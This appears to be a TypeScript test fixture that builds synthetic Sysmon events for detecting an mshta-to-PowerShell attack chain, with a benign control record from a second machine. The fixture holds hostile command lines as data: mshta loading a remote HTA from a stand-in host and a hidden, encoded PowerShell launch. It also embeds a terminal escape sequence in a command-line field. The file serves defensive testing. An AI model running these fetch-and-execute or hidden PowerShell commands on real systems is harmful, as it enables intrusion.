/** What would colour a terminal that obeyed it. */
export const ESCAPE = '\u001b[31m';
/** A process's id as Sysmon writes it. */
export const guid = (n: number): string => `{0f2a6c41-9d10-6a00-${String(n).padStart(4, '0')}-000000000700}`;

/** For tests: a record of Sysmon at a second of 09:16. */
export function sysmon(
  id: number,
  second: number,
  fields: Record<string, string>,
  host = 'WS1.corp.example',
): string {
  const time = `2026-11-20 09:16:${String(second).padStart(2, '0')}.100`;
  return JSON.stringify({
    EventID: id,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Hostname: host,
    RecordNumber: 100 + second,
    TimeCreated: `${time.replace(' ', 'T')}Z`,
    UtcTime: time,
    User: 'CORP\\ann',
    ...fields,
  });
}

/** Explorer starts mshta on a remote HTA, mshta starts PowerShell, which calls out: AN1397 whole. */
export const attack = [
  sysmon(1, 1, {
    ProcessGuid: guid(1),
    ProcessId: '100',
    Image: 'C:\\Windows\\explorer.exe',
    CommandLine: 'explorer.exe',
    ParentProcessGuid: guid(9),
    ParentProcessId: '9',
    ParentImage: 'C:\\Windows\\System32\\userinit.exe',
    LogonId: '0x1',
  }),
  sysmon(1, 2, {
    ProcessGuid: guid(2),
    ProcessId: '200',
    Image: 'C:\\Windows\\System32\\mshta.exe',
    OriginalFileName: 'MSHTA.EXE',
    CommandLine: `mshta.exe https://files.example.net/a.hta ${ESCAPE}`,
    ParentProcessGuid: guid(1),
    ParentProcessId: '100',
    ParentImage: 'C:\\Windows\\explorer.exe',
    LogonId: '0x1',
  }),
  sysmon(3, 3, {
    ProcessGuid: guid(2),
    ProcessId: '200',
    Image: 'C:\\Windows\\System32\\mshta.exe',
    Protocol: 'tcp',
    Initiated: 'true',
    SourceIp: '192.0.2.10',
    SourcePort: '50000',
    DestinationIp: '203.0.113.7',
    DestinationPort: '443',
  }),
  sysmon(1, 4, {
    ProcessGuid: guid(3),
    ProcessId: '300',
    Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    CommandLine: 'powershell.exe -nop -w hidden -enc AAAA',
    ParentProcessGuid: guid(2),
    ParentProcessId: '200',
    ParentImage: 'C:\\Windows\\System32\\mshta.exe',
    LogonId: '0x1',
  }),
];
/** Another machine, where nothing happens. */
export const quiet = sysmon(
  1,
  9,
  {
    ProcessGuid: guid(5),
    ProcessId: '500',
    Image: 'C:\\Windows\\System32\\notepad.exe',
    CommandLine: 'notepad.exe',
  },
  'ws2',
);
